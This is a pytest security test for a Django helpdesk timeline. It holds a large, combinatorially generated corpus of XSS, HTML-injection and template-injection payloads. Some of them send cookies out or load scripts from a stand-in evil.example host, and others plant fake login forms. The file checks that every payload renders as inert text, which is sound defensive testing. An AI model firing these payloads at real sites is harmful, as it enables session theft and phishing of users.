"""A11: whatever somebody writes into a request is read as text by everybody else, and never as markup.

Each payload goes through every place of the timeline that shows what people typed. What comes out has to be the same
page as for a harmless word, but for that text.
"""

from __future__ import annotations

import itertools
from collections import Counter
from dataclasses import dataclass, field
from datetime import UTC, datetime
from html.parser import HTMLParser

import pytest
from django.template.loader import render_to_string

from pactdesk.cases.queries.timeline import TimelineEntry
from pactdesk.pages.happenings import happening
from pactdesk.pages.timeline import drawn
from tests import world

NOW = datetime(2026, 11, 20, 13, 2, tzinfo=UTC)

_SCRIPTS = (
    "alert(1)",
    "fetch('//evil.example/'+document.cookie)",
    "location='https://evil.example'",
    "import('//evil.example/x.js')",
    "document.forms[0].submit()",
)
_EVENTS = (
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "onanimationstart",
    "ontoggle",
    "onpointerover",
    "onbegin",
    "onpageshow",
    "onwheel",
    "onauxclick",
    "oncontentvisibilityautostatechange",
)
_TAGS = (
    "<script>{js}</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script/x>{js}</script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<svg><script>{js}</script></svg>",
    "<svg/onload={js}>",
    '<iframe srcdoc="<script>{js}</script>">',
    '<object data="javascript:{js}">',
    '<embed src="data:text/html,<script>{js}</script>">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    "<style>@import '//evil.example/x.css';</style>",
    '<form action="https://evil.example"><input name="password"><button>Sign in again</button></form>',
    '<a href="javascript:{js}">click</a>',
    '<a href="java&#x09;script:{js}">click</a>',
    '<math><mi xlink:href="javascript:{js}">',
    "<template><script>{js}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<!--><img src=x onerror={js}>-->",
    "<![CDATA[><script>{js}</script>]]>",
    "<?xml version='1.0'?><script>{js}</script>",
    "<textarea></textarea><script>{js}</script>",
    "</div></li></ol><h1>Your account is locked</h1>",
    "</title><script>{js}</script>",
    "<img src=`x`onerror={js}>",
    "<div style=\"background:url('javascript:{js}')\">",
    "<x hx-get='https://evil.example' hx-trigger='load'>",
    "<div data-hx-post='/accounts/logout/' hx-trigger=load>",
    "<input autofocus onfocus={js}>",
)
_EDGES = (
    "\"'><img src=x onerror=alert(1)>",
    "javascript:alert(1)//http://",
    "javascript://https://support.example/%0aalert(1)",
    'https://support.example/"onmouseover=alert(1) x="',
    "https://support.example/'><script>alert(1)</script>",
    "https://support.example/`onclick=alert(1)`",
    "https://<script>alert(1)</script>",
    "https://support.example/&quot;onclick=alert(1)",
    "https://support.example/&#34;onclick=alert(1)",
    "https://bank.example@evil.example/login",
    "https://support.example/%22onclick%3Dalert(1)",
    'http://a\thttps://b" onclick=alert(1)',
    "https://support.example/\x85onclick=alert(1)",
    "https://support.example/\u2028onclick=alert(1)",
    "https://support.example/\u3000onclick=alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "{{ 7*7 }}{% csrf_token %}{{ request.session.items }}",
    "%(who)s %s %n %",
    "{0.__class__.__mro__}{who}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2039script\u203aalert(1)",
    "<\u0130mg src=x onerror=alert(1)>",
    "<img/src='x'\x0conerror=alert(1)>",
    "<\x00script>alert(1)</script>",
    ']]>"><svg onload=alert(1)>',
    "--!><svg onload=alert(1)>",
    "[click](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "<https://evil.example>",
    "BEGIN:VCALENDAR\r\nATTACH:https://evil.example",
    "<!DOCTYPE html><html><body onload=alert(1)>",
    "\u202e<tpircs>",
)
PAYLOADS = tuple(
    dict.fromkeys(
        (
            *(tag.replace("{js}", js) for tag, js in itertools.product(_TAGS, _SCRIPTS)),
            *(f"<img src=x {event}={js}>" for event, js in itertools.product(_EVENTS, _SCRIPTS)),
            *(f"<details open {event.upper()}='alert(1)'>" for event in _EVENTS),
            *(f'" {event}="alert(1)' for event in _EVENTS),
            *(f"https://support.example/?q=<b {event}=alert(1)>" for event in _EVENTS),
            *_EDGES,
        )
    )
)
HARMLESS = "word"


@dataclass
class Page(HTMLParser):
    """The tags of a page with their attributes, and its text."""

    tags: Counter[tuple[str, tuple[tuple[str, str | None], ...]]] = field(default_factory=Counter)
    links: list[dict[str, str | None]] = field(default_factory=list)
    text: list[str] = field(default_factory=list)
    others: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        super().__init__()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        about = dict(attrs)
        if tag == "a" and "rel" in about:
            self.links.append(about)
        else:
            self.tags[tag, tuple(attrs)] += 1

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def entries(payload: str) -> list[TimelineEntry]:
    """The payload in every place that shows what people typed."""
    facts = {
        "case.assigned": {"owner_name": payload},
        "case.contact-added": {"name": payload, "email": payload},
        "case.contact-removed": {"name": payload, "account": None},
        "case.closed": {"outcome": "non-decrement", "cause": "goodwill", "credited": 1, "reason": payload},
        "case.reopened": {"deducted": 1, "reason": payload},
        "case.escalated": {"step": "manager", "reason": payload, "side": "requester"},
        "case.escalation-taken-up": {"name": payload},
        "case.file-added": {"name": payload},
        "case.file-removed": {"name": payload},
        "case.status-changed": {"before": "new", "after": "in-progress", "side": "vendor"},
    }
    said = [
        TimelineEntry("message", NOW, payload, side=side, id=number, text=payload, language=language)
        for number, (side, language) in enumerate((("requester", ""), ("vendor", "el")), start=1)
    ]
    happened = [
        TimelineEntry("event", NOW, payload, code=code, payload={"side": "vendor", **about})
        for code, about in facts.items()
    ]
    return said + happened


def read(payload: str) -> Page:
    rows = drawn(
        entries(payload),
        reader=world.viewer("carla"),
        language="en",
        happening=lambda entry: happening(entry, reader_id=1, unit="incident"),
        fold=False,
    )
    page = Page()
    page.feed(render_to_string("pages/components/timeline.html", {"rows": rows}))
    page.close()
    return page


def test_the_corpus_is_large_enough() -> None:
    assert len(PAYLOADS) >= 250


@pytest.mark.django_db
def test_no_markup_survives_in_the_timeline() -> None:
    harmless, wrong = read(HARMLESS), []
    for payload in PAYLOADS:
        page = read(payload)
        if page.tags != harmless.tags or page.others:
            wrong.append(f"{payload!r}: {page.tags - harmless.tags} {page.others}")
        for link in page.links:
            href = link["href"] or ""
            if set(link) != {"href", "rel"} or link["rel"] != "nofollow noopener noreferrer":
                wrong.append(f"{payload!r}: {link}")
            if not href.lower().startswith(("https://", "http://")) or href not in payload:
                wrong.append(f"{payload!r} leads to {href!r}")
        # Nothing is lost either: people read what was typed.
        text = "".join(page.text)
        if payload.replace("\r\n", "\n") not in text.replace("\r\n", "\n"):
            wrong.append(f"{payload!r} is not what is read")
    assert not wrong, "\n".join(wrong)


@pytest.mark.django_db
def test_the_test_would_notice(monkeypatch: pytest.MonkeyPatch) -> None:
    """The vulnerable twin: a page that trusts what it shows fails for most of the corpus."""
    from django.utils.safestring import mark_safe

    monkeypatch.setattr("pactdesk.pages.timeline.linked", mark_safe)
    harmless = read(HARMLESS)
    caught = sum(read(payload).tags != harmless.tags for payload in PAYLOADS)
    assert caught > 180
